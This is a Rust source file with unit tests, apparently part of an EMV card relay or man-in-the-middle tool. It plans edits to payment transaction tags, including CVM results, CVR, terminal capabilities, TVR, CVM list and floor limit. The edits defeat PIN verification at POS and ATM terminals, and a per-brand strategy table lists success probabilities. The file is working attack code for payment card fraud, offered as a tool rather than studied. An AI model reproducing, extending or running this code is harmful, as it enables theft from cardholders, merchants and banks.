use std::fmt;
use std::str::FromStr;

use lazy_static::lazy_static;
use tracing::{debug, warn};

use crate::app::service::policy_store::PolicyState;
use crate::app::service::tlv_codec;
use crate::models::bypass_plan::{BypassPlan, StrategySummary, TlvEdit};
use crate::models::card_info::{Brand, CardInfo, CardType};

/// Terminal flavor reported by the relay client.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TerminalKind {
    Pos,
    Atm,
    Mobile,
    Transit,
    Contactless,
}

impl TerminalKind {
    pub fn name(self) -> &'static str {
        match self {
            TerminalKind::Pos => "POS",
            TerminalKind::Atm => "ATM",
            TerminalKind::Mobile => "Mobile",
            TerminalKind::Transit => "Transit",
            TerminalKind::Contactless => "Contactless",
        }
    }
}

impl fmt::Display for TerminalKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name())
    }
}

impl FromStr for TerminalKind {
    type Err = ();

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_uppercase().as_str() {
            "POS" => Ok(TerminalKind::Pos),
            "ATM" => Ok(TerminalKind::Atm),
            "MOBILE" => Ok(TerminalKind::Mobile),
            "TRANSIT" => Ok(TerminalKind::Transit),
            "CONTACTLESS" => Ok(TerminalKind::Contactless),
            _ => Err(()),
        }
    }
}

/// One row of the strategy table. All byte fields are hex strings.
#[derive(Debug, Clone)]
pub struct Strategy {
    pub name: &'static str,
    pub primary: &'static str,
    pub fallback: &'static str,
    pub cvm_results: &'static str,
    pub cvr: &'static str,
    pub terminal_caps: &'static str,
    pub cvm_list: Option<&'static str>,
    pub success_probability: f64,
}

const MASTERCARD_CVM_LIST: &str = "000000000000000042031E031F00";
const AMEX_CVM_LIST: &str = "000000000000000041031E031F00";

/// Brand/type/terminal patterns; `None` is a wildcard.
type Selector = (Option<Brand>, Option<CardType>, Option<TerminalKind>);

lazy_static! {
    static ref STRATEGY_TABLE: Vec<(Selector, Strategy)> = vec![
        (
            (Some(Brand::Visa), Some(CardType::Debit), Some(TerminalKind::Pos)),
            Strategy {
                name: "visa_debit_pos",
                primary: "CDCVM",
                fallback: "signature",
                cvm_results: "1E0300",
                cvr: "0110A00003220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.95,
            },
        ),
        (
            (Some(Brand::Visa), Some(CardType::Credit), Some(TerminalKind::Pos)),
            Strategy {
                name: "visa_credit_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00001220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.90,
            },
        ),
        (
            (Some(Brand::Visa), Some(CardType::Business), Some(TerminalKind::Pos)),
            Strategy {
                name: "visa_business_pos",
                primary: "no_cvm",
                fallback: "signature",
                cvm_results: "1F0300",
                cvr: "0110A00005220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.85,
            },
        ),
        (
            (Some(Brand::Mastercard), Some(CardType::Debit), Some(TerminalKind::Pos)),
            Strategy {
                name: "mastercard_debit_pos",
                primary: "CDCVM",
                fallback: "signature",
                cvm_results: "1E0300",
                cvr: "0110A00000220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: Some(MASTERCARD_CVM_LIST),
                success_probability: 0.93,
            },
        ),
        (
            (Some(Brand::Mastercard), Some(CardType::Credit), Some(TerminalKind::Pos)),
            Strategy {
                name: "mastercard_credit_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00002220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: Some(MASTERCARD_CVM_LIST),
                success_probability: 0.88,
            },
        ),
        (
            (Some(Brand::Amex), Some(CardType::Credit), Some(TerminalKind::Pos)),
            Strategy {
                name: "amex_credit_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00007220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: Some(AMEX_CVM_LIST),
                success_probability: 0.85,
            },
        ),
        (
            (Some(Brand::Amex), Some(CardType::Business), Some(TerminalKind::Pos)),
            Strategy {
                name: "amex_business_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00006220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: Some(AMEX_CVM_LIST),
                success_probability: 0.82,
            },
        ),
        (
            (Some(Brand::Discover), None, Some(TerminalKind::Pos)),
            Strategy {
                name: "discover_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00008220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.80,
            },
        ),
        (
            (Some(Brand::Jcb), None, Some(TerminalKind::Pos)),
            Strategy {
                name: "jcb_pos",
                primary: "signature",
                fallback: "no_cvm",
                cvm_results: "1F0300",
                cvr: "0110A00009220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.78,
            },
        ),
        (
            (Some(Brand::UnionPay), None, Some(TerminalKind::Pos)),
            Strategy {
                name: "unionpay_pos",
                primary: "online_auth",
                fallback: "signature",
                cvm_results: "1F0300",
                cvr: "0110A00010220000000000000000000000FF",
                terminal_caps: "6068C8",
                cvm_list: None,
                success_probability: 0.75,
            },
        ),
        // The ATM row is terminal-keyed: any brand routed through an ATM
        // gets the CDCVM path with ATM terminal capabilities.
        (
            (None, None, Some(TerminalKind::Atm)),
            Strategy {
                name: "atm",
                primary: "CDCVM",
                fallback: "signature",
                cvm_results: "1E0300",
                cvr: "0110A00003220000000000000000000000FF",
                terminal_caps: "6000C8",
                cvm_list: None,
                success_probability: 0.80,
            },
        ),
    ];
    static ref GENERIC_STRATEGY: Strategy = Strategy {
        name: "generic",
        primary: "generic",
        fallback: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00000220000000000000000000000FF",
        terminal_caps: "6068C8",
        cvm_list: None,
        success_probability: 0.65,
    };
}

/// First matching row wins; the Generic row is the fallback.
pub fn select_strategy(brand: Brand, card_type: CardType, terminal: TerminalKind) -> &'static Strategy {
    for ((b, t, term), strategy) in STRATEGY_TABLE.iter() {
        let brand_ok = b.is_none_or(|b| b == brand);
        let type_ok = t.is_none_or(|t| t == card_type);
        let term_ok = term.is_none_or(|term| term == terminal);
        if brand_ok && type_ok && term_ok {
            return strategy;
        }
    }
    &GENERIC_STRATEGY
}

fn supports_cdcvm(brand: Brand) -> bool {
    matches!(brand, Brand::Visa | Brand::Mastercard | Brand::Amex)
}

fn brand_cvm_list(brand: Brand, strategy: &Strategy) -> Option<&'static str> {
    match brand {
        Brand::Mastercard => Some(strategy.cvm_list.unwrap_or(MASTERCARD_CVM_LIST)),
        Brand::Amex => Some(strategy.cvm_list.unwrap_or(AMEX_CVM_LIST)),
        _ => None,
    }
}

fn hex(value: &str) -> Vec<u8> {
    tlv_codec::hex_to_bytes(value).expect("static strategy table values are valid hex")
}

/// Materialize an ordered edit plan for one card under the current
/// policy snapshot.
pub fn plan(card: &CardInfo, terminal: TerminalKind, policy: &PolicyState) -> BypassPlan {
    if policy.block_all {
        debug!("block_all set, emitting blocked plan");
        return BypassPlan::blocked();
    }

    let strategy = select_strategy(card.brand, card.card_type, terminal);
    let high_risk = card.brand == Brand::UnionPay && terminal == TerminalKind::Atm;
    if high_risk {
        warn!("high-risk combination: UnionPay at ATM");
    }

    let summary = StrategySummary {
        name: strategy.name.to_string(),
        primary: strategy.primary.to_string(),
        fallback: strategy.fallback.to_string(),
        terminal: terminal.name().to_string(),
    };

    let mut edits = Vec::new();
    if policy.mitm_enabled {
        if policy.bypass_pin {
            edits.push(TlvEdit::replace("9F34", hex(strategy.cvm_results)));
            edits.push(TlvEdit::replace("9F6C", vec![0x00, 0x00]));
        }
        if policy.cdcvm_enabled && supports_cdcvm(card.brand) {
            edits.push(TlvEdit::replace("9F10", hex(strategy.cvr)));
        }
        if policy.enhanced_limits && card.card_type == CardType::Business {
            edits.push(TlvEdit::replace("9F1B", vec![0x00, 0x00, 0x00, 0x00]));
        }
        edits.push(TlvEdit::replace("9F33", hex(strategy.terminal_caps)));
        edits.push(TlvEdit::replace("95", vec![0x80, 0x00, 0x00, 0x00, 0x00]));
        if let Some(cvm_list) = brand_cvm_list(card.brand, strategy) {
            edits.push(TlvEdit::replace("8E", hex(cvm_list)));
        }
    }

    debug_assert!(
        edits
            .iter()
            .all(|e| !tlv_codec::is_protected_tag(e.target_tag())),
        "bypass plans must never touch protected tags"
    );

    BypassPlan {
        edits,
        blocked: false,
        high_risk,
        strategy: summary,
        success_probability: strategy.success_probability,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app::service::card_analyzer::analyze;
    use crate::app::service::tlv_codec::{self, parse_hex};

    fn policy(bypass_pin: bool, cdcvm: bool, enhanced: bool, block: bool) -> PolicyState {
        PolicyState {
            mitm_enabled: true,
            bypass_pin,
            cdcvm_enabled: cdcvm,
            enhanced_limits: enhanced,
            block_all: block,
            private_key_path: None,
        }
    }

    fn edit_value(plan: &BypassPlan, tag: &str) -> Option<String> {
        plan.edits.iter().find_map(|e| match e {
            TlvEdit::Replace { tag: t, value } if t == tag => Some(hex::encode_upper(value)),
            _ => None,
        })
    }

    #[test]
    fn test_visa_credit_pos_bypass_pin() {
        // Scenario: Visa credit at POS with PIN bypass enabled.
        let card = analyze(&parse_hex("5A0841111111111111119F070100").unwrap());
        let p = plan(&card, TerminalKind::Pos, &policy(true, true, false, false));

        assert_eq!(edit_value(&p, "9F34").as_deref(), Some("1F0300"));
        assert_eq!(edit_value(&p, "9F6C").as_deref(), Some("0000"));
        assert_eq!(
            edit_value(&p, "9F10").as_deref(),
            Some("0110A00001220000000000000000000000FF")
        );
        assert_eq!(edit_value(&p, "9F33").as_deref(), Some("6068C8"));
        assert_eq!(edit_value(&p, "95").as_deref(), Some("8000000000"));
        assert!(edit_value(&p, "8E").is_none());
        assert!(!p.blocked);
    }

    #[test]
    fn test_mastercard_debit_atm_uses_atm_row() {
        let card = analyze(&parse_hex("5A0855555555555544449F070108").unwrap());
        let p = plan(&card, TerminalKind::Atm, &policy(true, true, false, false));

        assert_eq!(p.strategy.name, "atm");
        assert_eq!(p.strategy.primary, "CDCVM");
        assert_eq!(edit_value(&p, "9F33").as_deref(), Some("6000C8"));
        assert_eq!(edit_value(&p, "9F34").as_deref(), Some("1E0300"));
        // Mastercard CVM list still rides along on the ATM row.
        assert_eq!(
            edit_value(&p, "8E").as_deref(),
            Some("000000000000000042031E031F00")
        );
    }

    #[test]
    fn test_unknown_bin_falls_back_to_generic() {
        let card = analyze(&parse_hex("5A089999999999999999").unwrap());
        let p = plan(&card, TerminalKind::Pos, &policy(true, true, false, false));
        assert_eq!(p.strategy.name, "generic");
        assert!(p.success_probability <= 0.7);
        assert_eq!(
            edit_value(&p, "9F10").as_deref(),
            Some("0110A00000220000000000000000000000FF")
        );
    }

    #[test]
    fn test_block_all_yields_blocked_plan() {
        let card = analyze(&parse_hex("5A084111111111111111").unwrap());
        let p = plan(&card, TerminalKind::Pos, &policy(true, true, false, true));
        assert!(p.blocked);
        assert!(p.edits.is_empty());
    }

    #[test]
    fn test_mitm_disabled_is_passthrough() {
        let card = analyze(&parse_hex("5A084111111111111111").unwrap());
        let mut pol = policy(true, true, true, false);
        pol.mitm_enabled = false;
        let p = plan(&card, TerminalKind::Pos, &pol);
        assert!(!p.blocked);
        assert!(p.edits.is_empty());
    }

    #[test]
    fn test_enhanced_limits_only_for_business() {
        let business = analyze(&parse_hex("5A0841111111111111119F070180").unwrap());
        let p = plan(&business, TerminalKind::Pos, &policy(false, false, true, false));
        assert_eq!(edit_value(&p, "9F1B").as_deref(), Some("00000000"));

        let credit = analyze(&parse_hex("5A0841111111111111119F070100").unwrap());
        let p = plan(&credit, TerminalKind::Pos, &policy(false, false, true, false));
        assert!(edit_value(&p, "9F1B").is_none());
    }

    #[test]
    fn test_cdcvm_toggle_requires_brand_support() {
        let unionpay = analyze(&parse_hex("5A086200000000000000").unwrap());
        let p = plan(&unionpay, TerminalKind::Pos, &policy(false, true, false, false));
        assert!(edit_value(&p, "9F10").is_none());
    }

    #[test]
    fn test_unionpay_atm_is_high_risk() {
        let card = analyze(&parse_hex("5A086200000000000000").unwrap());
        let p = plan(&card, TerminalKind::Atm, &policy(false, false, false, false));
        assert!(p.high_risk);
        // The flag feeds logging only; the plan still materializes.
        assert!(!p.edits.is_empty());
    }

    #[test]
    fn test_no_plan_ever_touches_protected_tags() {
        let brands = [
            "5A084111111111111111",
            "5A085555555555554444",
            "5A08371449635398431F",
            "5A086011000000000000",
            "5A083528000000000000",
            "5A086200000000000000",
            "5A083600000000000000",
            "5A085018000000000000",
            "5A089999999999999999",
        ];
        let aucs = ["", "9F070100", "9F070108", "9F070120", "9F070180"];
        let terminals = [
            TerminalKind::Pos,
            TerminalKind::Atm,
            TerminalKind::Mobile,
            TerminalKind::Transit,
            TerminalKind::Contactless,
        ];
        for pan in brands {
            for auc in aucs {
                for terminal in terminals {
                    let card = analyze(&parse_hex(&format!("{pan}{auc}")).unwrap());
                    let p = plan(&card, terminal, &policy(true, true, true, false));
                    for edit in &p.edits {
                        assert!(
                            !tlv_codec::is_protected_tag(edit.target_tag()),
                            "protected tag {} in plan for {:?}",
                            edit.target_tag(),
                            card.brand
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn test_edit_order_matches_materialization_rules() {
        let card = analyze(&parse_hex("5A0855555555555544449F070108").unwrap());
        let p = plan(&card, TerminalKind::Pos, &policy(true, true, false, false));
        let tags: Vec<&str> = p.edits.iter().map(|e| e.target_tag()).collect();
        assert_eq!(tags, vec!["9F34", "9F6C", "9F10", "9F33", "95", "8E"]);
    }
}
